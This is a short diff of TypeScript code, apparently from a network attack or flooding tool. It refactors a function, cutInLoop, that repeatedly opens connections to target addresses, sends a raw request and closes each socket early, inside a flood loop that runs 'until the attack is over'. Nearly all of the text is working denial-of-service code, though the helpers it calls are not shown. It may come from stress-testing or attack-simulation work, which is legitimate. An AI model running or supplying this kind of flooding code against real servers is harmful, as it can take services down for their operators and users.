@@ -6,19 +6,19 @@ import type { Scene } from "./scene";
 const CUT_AFTER_MS = { least: 20, most: 60 };
 
 /**
- * Sends requests until the attack is over, each on a connection of its own, which it closes before the
- * answer.
+ * Sends a request again and again until the attack is over, each time on a connection of its own, which it
+ * closes before the answer.
  *
- * @param make - returns the bytes of a request, each character as one byte
+ * @param bytes - the request, each character as one byte
  */
-export async function cutInLoop(scene: Scene, addresses: string[], make: () => string): Promise<void> {
+export async function cutInLoop(scene: Scene, addresses: string[], bytes: string): Promise<void> {
   const { job, random } = scene;
   const { least, most } = CUT_AFTER_MS;
   let cut = 0;
   await floodInLoop(scene, job.small ? 3 : 20, async (n) => {
     const socket = await scene.connect(addresses[n % addresses.length] ?? "");
     if (socket) cut++;
-    socket?.write(make(), "latin1");
+    socket?.write(bytes, "latin1");
     await sleep(least + random() * (most - least));
     socket?.destroy();
   });
